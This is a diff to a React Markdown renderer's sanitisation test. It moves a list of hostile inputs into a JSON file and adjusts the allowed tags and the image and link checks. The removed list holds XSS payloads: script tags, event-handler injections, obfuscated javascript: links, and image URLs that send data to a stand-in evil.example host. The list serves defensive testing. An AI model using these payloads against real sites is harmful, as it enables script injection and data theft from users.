@@ -1,6 +1,7 @@
 import { cleanup, render } from "@testing-library/react";
 import { afterEach, expect, test } from "vitest";
 
+import HOSTILE from "./hostile.json";
 import { Markdown } from "./markdown";
 
 afterEach(cleanup);
@@ -8,54 +9,25 @@ afterEach(cleanup);
 const shown = (text: string, streaming = false) =>
   render(<Markdown text={text} streaming={streaming} />).container;
 
-const HOSTILE = [
-  "<script>window.pwned=1</script>",
-  "<img src=x onerror=window.pwned=1>",
-  "<svg/onload=window.pwned=1>",
-  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
-  "<a href='javascript:window.pwned=1'>x</a>",
-  "<form action=/graphql><input name=q></form>",
-  "<style>*{display:none}</style>",
-  "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
-  "[x](javascript:window.pwned=1)",
-  "[x](JaVaScRiPt:window.pwned=1)",
-  "[x](java&#115;cript:window.pwned=1)",
-  "[x](&#x6A;avascript:window.pwned=1)",
-  "[x](  javascript:window.pwned=1)",
-  "[x](\u0001javascript:window.pwned=1)",
-  "[x](data:text/html,<script>window.pwned=1</script>)",
-  "[x](vbscript:msgbox)",
-  "[x](file:///etc/passwd)",
-  "[x](//evil.example/a)",
-  "[x](/\\evil.example/a)",
-  "[x](\\\\evil.example)",
-  "<javascript:window.pwned=1>",
-  "[x]: javascript:window.pwned=1\n\n[x]",
-  "![x](javascript:window.pwned=1)",
-  "![x](data:image/svg+xml,<svg onload=window.pwned=1>)",
-  "![x](https://evil.example/leak?d=secret)",
-  "[![x](https://evil.example/leak)](https://evil.example)",
-  '![x](https://evil.example/a"onerror="window.pwned=1)',
-  "```html\n<script>window.pwned=1</script>\n```",
-  "`<img src=x onerror=window.pwned=1>`",
-  "| <script>window.pwned=1</script> |\n|---|\n| <img src=x onerror=window.pwned=1> |",
-];
-
 const ALLOWED = new Set(
-  "div p h3 h4 h5 h6 ul ol li input strong em del code pre span a br hr blockquote table thead tbody tr th td figure figcaption button svg path rect circle".split(
+  "div p h2 h3 h4 h5 h6 ul ol li input strong em del code pre span a br hr blockquote table thead tbody tr th td figure figcaption button svg path rect circle line polyline img".split(
     " ",
   ),
 );
+
+const { origin } = window.location;
 
 test.each(HOSTILE)("%s stays harmless", (text) => {
   for (const streaming of [false, true]) {
     const container = shown(text, streaming);
     for (const element of container.querySelectorAll("*")) {
       expect(ALLOWED).toContain(element.tagName.toLowerCase());
-      for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^src$|^srcdoc$|^action$/);
+      for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^srcdoc$|^action$/);
     }
+    // What is on this site is loaded at once; what is not waits for a click.
+    for (const image of container.querySelectorAll("img")) expect(new URL(image.src).origin).toBe(origin);
     for (const link of container.querySelectorAll("a")) {
-      expect(link.href).toMatch(/^(https?:\/\/(localhost|evil\.example)|mailto:)/);
+      expect(link.href).toMatch(/^(https?|mailto):/);
       if (link.host !== window.location.host) expect(link.rel).toContain("noopener");
       expect(link.getAttribute("href")).not.toMatch(/^[\\/]{2}|^\/\\/);
     }
